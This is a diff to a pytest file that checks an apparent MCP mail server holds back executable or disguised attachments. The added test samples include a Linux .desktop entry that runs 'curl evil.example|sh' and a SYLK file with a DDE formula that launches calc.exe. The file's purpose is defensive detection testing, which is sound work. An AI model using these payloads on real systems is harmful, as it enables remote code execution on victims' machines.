@@ -1,9 +1,11 @@
 """Attachments that run when opened are held back by get_attachments and resources/read, on every IMAP server.
 
 Two messages on the server: one carrying a corpus of disguised programs (extension tricks, a right-to-left
-override, types that lie, program bytes under harmless names, scripts, macro-enabled Office files, a JAR whose
-entry list only every byte shows), one carrying ordinary files. The server's BODYSTRUCTURE (names, RFC 2231,
-types) and partial FETCH answers decide what the detector sees, so these are matrix tests.
+override, types that lie, program bytes under harmless names, scripts, macro-enabled Office files, disk images
+and the other types issue 38 found delivered, HTML and SVG with script, a ZIP holding a program, a JAR whose
+entry list only every byte shows), one carrying ordinary files (HTML and SVG without script among them). The
+server's BODYSTRUCTURE (names, RFC 2231, types) and partial FETCH answers decide what the detector sees, so
+these are matrix tests.
 """
 
 from __future__ import annotations
@@ -14,7 +16,24 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from executable_corpus import DOCM, DOCX, DOCX_TYPE, ELF, JAR, JPEG, LNK, MACH_O, PDF, PE, padded_jar, zipped
+from executable_corpus import (
+    DOCM,
+    DOCX,
+    DOCX_TYPE,
+    ELF,
+    HTML_PLAIN,
+    HTML_SCRIPT,
+    JAR,
+    JPEG,
+    LNK,
+    MACH_O,
+    PDF,
+    PE,
+    SVG_ONLOAD,
+    SVG_PLAIN,
+    padded_jar,
+    zipped,
+)
 from harness import Account, append_message, served, structured
 from mcp import Client
 from mcp.shared.exceptions import MCPError
@@ -50,6 +69,14 @@ DISGUISED = [
     ("Calculator.app", "application/zip", zipped("Contents/MacOS/Calculator")),
     ("budget.docm", DOCX_TYPE, DOCM),
     ("budget.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", zipped("xl/workbook.xml")),
+    # what Windows, macOS and Linux mount or run on open (issue 38), markup with script, a ZIP holding a program
+    ("disk.iso", OCTETS, bytes(64)),
+    ("notebook.one", OCTETS, bytes(64)),
+    ("prices.slk", "text/plain", b"ID;P\r\nC;X1;Y1;EMSEXCEL|'\\..\\calc.exe'!''\r\nE\r\n"),
+    ("viewer.desktop", "text/plain", b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl evil.example|sh'\n"),
+    ("invoice.html", "text/html", HTML_SCRIPT),
+    ("logo.svg", "image/svg+xml", SVG_ONLOAD),
+    ("photos.zip", "application/zip", zipped("photos/1.jpg", "photos/viewer.exe")),
 ]
 #: a JAR named and typed as a ZIP: its first bytes are any ZIP's, its entry list (at its end) says it runs
 LATE_JAR = ("report.zip", "application/zip", padded_jar())
@@ -60,6 +87,8 @@ HARMLESS = [
     ("notes.txt", "text/plain", b"MZ is where we meet.\n"),
     ("letter.docx", DOCX_TYPE, DOCX),
     ("data.csv", "text/csv", "name,city\nJos\u00e9,Z\u00fcrich\n".encode()),
+    ("minutes.html", "text/html", HTML_PLAIN),
+    ("logo.svg", "image/svg+xml", SVG_PLAIN),
 ]
 
 
@@ -156,6 +185,8 @@ async def test_a_download_dir_gets_only_the_ordinary_files_and_no_trace_of_the_o
         "notes.txt": HARMLESS[2][2],
         "letter.docx": DOCX,
         "data.csv": HARMLESS[4][2],
+        "minutes.html": HTML_PLAIN,
+        "logo.svg": SVG_PLAIN,
     }
     assert sorted(p.name for p in tmp_path.iterdir()) == sorted(written)  # no partial file, no held-back file
     assert len(summary["skipped"]) == len(DISGUISED) + 1
